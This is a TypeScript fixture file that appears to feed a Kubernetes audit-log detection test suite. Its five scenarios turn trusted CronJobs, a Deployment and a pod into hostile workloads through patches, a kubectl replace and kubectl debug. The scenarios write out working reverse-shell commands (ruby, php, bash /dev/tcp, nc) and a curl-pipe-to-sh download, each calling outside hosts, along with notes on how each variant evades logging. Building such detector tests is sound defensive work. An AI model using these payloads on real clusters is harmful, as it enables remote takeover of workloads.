import type { Actor, Scenario } from '../types.js';
import { compromisedDeveloper, serviceAccountToken } from './actors.js';
import { appsWorkload, container, cronJob, shell } from './manifests.js';
import { patch, update } from './steps.js';

/** The web team's deploy bot, whose token sat in a CI variable that leaked. */
const webDeployerToken: Actor = serviceAccountToken({
  namespace: 'web',
  serviceAccount: 'web-deployer',
  pod: 'web-deployer-runner-0',
  node: 'ip-10-0-14-202.eu-west-1.compute.internal',
  podIP: '10.0.15.77',
  authorizationReason:
    'RBAC: allowed by RoleBinding "web-deployer/web" of ClusterRole "edit" to ServiceAccount "web-deployer/web"',
});

const invoiceExport = cronJob(
  {
    name: 'invoice-export',
    namespace: 'billing',
    labels: { 'app.kubernetes.io/name': 'invoice-export', 'app.kubernetes.io/managed-by': 'Helm' },
    annotations: {
      'meta.helm.sh/release-name': 'billing',
      'meta.helm.sh/release-namespace': 'billing',
    },
  },
  '0 * * * *',
  {
    containers: [
      container('invoice-export', 'registry.acme-corp.io/billing/exporter:3.2.1', {
        command: ['/app/export', '--since=1h', '--format=csv'],
      }),
    ],
    restartPolicy: 'OnFailure',
    serviceAccountName: 'invoice-export',
  },
);

const storefront = appsWorkload(
  'Deployment',
  {
    name: 'storefront',
    namespace: 'web',
    labels: { app: 'storefront' },
    annotations: { 'deployment.kubernetes.io/revision': '4' },
  },
  {
    containers: [
      container('storefront', 'registry.acme-corp.io/web/storefront:5.8.0', {
        ports: [{ containerPort: 8080, name: 'http' }],
        resources: { requests: { cpu: '250m', memory: '256Mi' }, limits: { memory: '512Mi' } },
      }),
    ],
  },
  { replicas: 3 },
);

const reportMailer = cronJob(
  { name: 'report-mailer', namespace: 'reports', labels: { app: 'report-mailer' } },
  '*/30 * * * *',
  {
    containers: [
      container('report-mailer', 'python:3.12-slim', {
        command: ['python', '/app/send_reports.py', '--queue', 'daily'],
      }),
    ],
    restartPolicy: 'OnFailure',
  },
);

const cacheWarmer = cronJob(
  { name: 'cache-warmer', namespace: 'web', labels: { app: 'cache-warmer' } },
  '*/15 * * * *',
  {
    containers: [
      container('cache-warmer', 'curlimages/curl:8.7.1', {
        command: ['curl', '-sf', 'http://storefront.web.svc.cluster.local/internal/warmup'],
      }),
    ],
    restartPolicy: 'OnFailure',
  },
);

/** A checkout pod as the cluster stores it: created by its ReplicaSet, running. */
const checkoutPod = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: {
    name: 'checkout-api-7c9f5d8b4-q7xkz',
    generateName: 'checkout-api-7c9f5d8b4-',
    namespace: 'checkout',
    labels: { app: 'checkout-api', 'pod-template-hash': '7c9f5d8b4' },
    ownerReferences: [
      {
        apiVersion: 'apps/v1',
        kind: 'ReplicaSet',
        name: 'checkout-api-7c9f5d8b4',
        uid: '3f1d2c4b-8a7e-4b6d-9c5f-1e2a3b4c5d6e',
        controller: true,
        blockOwnerDeletion: true,
      },
    ],
  },
  spec: {
    containers: [
      container('checkout-api', 'registry.acme-corp.io/shop/checkout-api:2.14.3', {
        ports: [{ containerPort: 8080, name: 'http' }],
        resources: { requests: { cpu: '200m', memory: '256Mi' }, limits: { memory: '512Mi' } },
      }),
    ],
    serviceAccountName: 'checkout-api',
    nodeName: 'ip-10-0-45-88.eu-west-1.compute.internal',
  },
};

const base = {
  technique: 'T1053.007',
  kind: 'attack' as const,
  expect: { minSeverity: 'medium' as const },
};

/** Existing, trusted workloads turned hostile by update and every kind of patch. */
export const TAMPERING_SCENARIOS: Scenario[] = [
  {
    ...base,
    id: 'rev-shell-ruby-json-patch-cronjob',
    title: 'JSON Patch turns an hourly export CronJob into a ruby reverse shell',
    description:
      'kubectl patch --type json replaces the image and command of a Helm-managed CronJob and tightens its schedule. The request body holds only the new values; the stored object shows the whole result.',
    evasionClass: 'JSON Patch carrying only the new command (ruby TCPSocket)',
    steps: [
      patch(
        compromisedDeveloper,
        invoiceExport,
        'json',
        [
          {
            op: 'replace',
            path: '/spec/jobTemplate/spec/template/spec/containers/0/image',
            value: 'ruby:3.3-alpine',
          },
          {
            op: 'replace',
            path: '/spec/jobTemplate/spec/template/spec/containers/0/command',
            value: [
              'ruby',
              '-rsocket',
              '-e',
              'f=TCPSocket.open("203.0.113.47",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
            ],
          },
          { op: 'replace', path: '/spec/schedule', value: '*/5 * * * *' },
        ],
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1610',
    id: 'rev-shell-php-merge-patch-deployment',
    title: 'Merge patch swaps a Deployment container for a php reverse shell (Request level)',
    description:
      'kubectl patch --type merge replaces the whole container list of an existing Deployment. The audit policy logs apps at Request level, so there is no responseObject: only the patch shows what changed.',
    evasionClass: 'merge patch, no stored object in the log (php fsockopen)',
    steps: [
      patch(
        compromisedDeveloper,
        storefront,
        'merge',
        {
          spec: {
            template: {
              spec: {
                containers: [
                  {
                    name: 'storefront',
                    image: 'php:8.3-cli-alpine',
                    command: [
                      'php',
                      '-r',
                      '$sock=fsockopen("203.0.113.47",4444);exec("/bin/sh -i <&3 >&3 2>&3");',
                    ],
                  },
                ],
              },
            },
          },
        },
        { level: 'Request', followUpLevel: 'Request', followUps: 1 },
      ),
    ],
  },
  {
    ...base,
    id: 'rev-shell-update-cronjob-replace',
    title: 'kubectl replace rewrites a report CronJob into a reverse shell',
    description:
      'GET, edit, PUT: the update keeps the CronJob name, labels and schedule but swaps the image and command for a bash reverse shell.',
    evasionClass: 'update of a trusted CronJob',
    steps: [
      update(
        compromisedDeveloper,
        reportMailer,
        {
          spec: {
            ...(reportMailer.spec as object),
            jobTemplate: {
              spec: {
                template: {
                  spec: {
                    containers: [
                      container('report-mailer', 'ubuntu:22.04', {
                        ...shell(
                          'bash -c "bash -i >& /dev/tcp/198.51.100.10/443 0>&1"',
                          '/bin/bash',
                        ),
                      }),
                    ],
                    restartPolicy: 'OnFailure',
                  },
                },
              },
            },
          },
        },
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    id: 'download-curl-pipe-sh-strategic-patch-cronjob',
    title: 'Strategic-merge patch makes a cache warmer pipe curl into sh',
    description:
      'kubectl patch (strategic merge, the default) merges a new command into the existing container by name; the stored CronJob is logged.',
    evasionClass: 'curl | sh via strategic-merge patch',
    steps: [
      patch(
        webDeployerToken,
        cacheWarmer,
        'strategic',
        {
          spec: {
            jobTemplate: {
              spec: {
                template: {
                  spec: {
                    containers: [
                      {
                        name: 'cache-warmer',
                        command: ['/bin/sh', '-c', 'curl -fsSL https://198.51.100.77/k.sh | sh'],
                      },
                    ],
                  },
                },
              },
            },
          },
        },
        { followUps: 2 },
      ),
    ],
  },
  {
    ...base,
    technique: 'T1609',
    id: 'ephemeral-container-reverse-shell',
    title: 'kubectl debug adds an ephemeral container with an nc reverse shell',
    description:
      'kubectl debug patches pods/ephemeralcontainers (strategic merge, no field manager) to add a busybox container targeting the app container.',
    evasionClass: 'ephemeral container (pods/ephemeralcontainers patch)',
    steps: [
      patch(
        compromisedDeveloper,
        checkoutPod,
        'strategic',
        {
          spec: {
            ephemeralContainers: [
              {
                command: ['sh', '-c', 'nc 203.0.113.47 4444 -e sh'],
                image: 'busybox:1.36',
                imagePullPolicy: 'IfNotPresent',
                name: 'debugger-7xq2m',
                resources: {},
                stdin: true,
                targetContainerName: 'checkout-api',
                terminationMessagePolicy: 'File',
                tty: true,
              },
            ],
          },
        },
        { subresource: 'ephemeralcontainers', fieldManager: null },
      ),
    ],
  },
];
